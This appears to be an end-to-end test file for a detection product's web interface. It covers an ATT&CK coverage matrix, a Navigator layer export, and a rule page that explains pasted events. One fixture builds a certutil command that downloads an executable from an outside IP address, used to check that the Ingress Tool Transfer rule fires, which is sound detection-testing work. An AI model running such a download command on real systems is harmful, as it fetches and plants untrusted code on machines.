// What rules cover and why they fire: the matrix with its gaps and shades, the layer that leaves it, an event
// pasted on a rule's page. Each page is checked for accessibility in both themes and for overflow on a phone.
import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { sitDown } from "./desk.mjs";
import { intrusion } from "./world.mjs";

const LIMIT = { timeout: 120_000 };
let world, page, send, holds, stop;

before(async () => {
  ({ world, page, send, holds, stop } = await sitDown());
}, LIMIT);

after(() => stop?.(), LIMIT);

test("the matrix shows what rules cover, what has fired, and what is missing", LIMIT, async () => {
  await send("/api/v1/sources/collector/events?format=json-lines", `${intrusion("ws-17.example.org")}\n`);
  await page.goto("/rules");
  await page.getByRole("link", { name: "Coverage of ATT&CK" }).click();
  await page.getByRole("heading", { name: "Coverage of ATT&CK" }).waitFor();
  assert.equal(await page.locator(".attack-tactic").count(), 15);
  await holds("coverage");
  await page.getByLabel("Shade by").selectOption("alerts");
  await page.getByLabel("Show").selectOption("all");
  await page.getByRole("button", { name: "Apply" }).click();
  await page.getByText("no rule", { exact: false }).first().waitFor();
  await holds("coverage-gaps");
  const alerts = page.locator(".attack-facts a").first();
  const technique = (await alerts.locator("xpath=..").textContent()).split(" ")[0];
  await alerts.click();
  await page.locator("table tbody tr", { hasText: technique }).first().waitFor();
  await page.goto("/rules/coverage?source=windows");
  const waiting = page.waitForEvent("download");
  await page.getByRole("link", { name: "Navigator layer" }).click();
  const saved = join(world.folder, "layer.json");
  await (await waiting).saveAs(saved);
  const layer = JSON.parse(await readFile(saved, "utf8"));
  assert.equal(layer.versions.layer, "4.5");
  assert.ok(layer.techniques.some((one) => one.score > 0));
});

test("a cell leads to its rules, and a rule explains an event that is pasted", LIMIT, async () => {
  await page.goto("/rules/coverage");
  await page.getByRole("link", { name: "Ingress Tool Transfer" }).first().click();
  await page.locator(".row-link", { hasText: /certutil/i }).first().click();
  await page.getByRole("heading", { name: "Try an event" }).waitFor();
  await page.getByLabel("A record as its log has it").fill(JSON.stringify({
    Image: "C:\\Windows\\System32\\certutil.exe", CommandLine: "certutil.exe -hashfile a.exe", User: "CORP\\reader",
  }));
  await page.getByLabel(/Take it for/).check();
  await page.getByRole("button", { name: "Explain" }).click();
  await page.getByText("The rule does not fire", { exact: true }).waitFor();
  await page.locator(".explain-tree li[data-holds=false]").first().waitFor();
  await holds("explain-silent");
  const field = page.getByLabel("A record as its log has it");
  await field.fill((await field.inputValue()).replace("-hashfile a.exe", "-urlcache -split -f http://203.0.113.9/a.exe a.exe"));
  await page.getByRole("button", { name: "Explain" }).click();
  await page.getByText("The rule fires", { exact: true }).waitFor();
  await holds("explain-fires");
  await field.fill("{");
  await page.getByRole("button", { name: "Explain" }).click();
  await page.locator("#try .error").waitFor();
  await holds("explain-error");
});

test("an alert's event is explained without typing", LIMIT, async () => {
  await page.goto("/alerts/ALR-1");
  await page.getByRole("link", { name: "Explain the match" }).click();
  await page.getByText("The rule fires", { exact: true }).waitFor();
  assert.match(await page.getByLabel("A record as its log has it").inputValue(), /ws-17/);
  await holds("explain-alert");
});
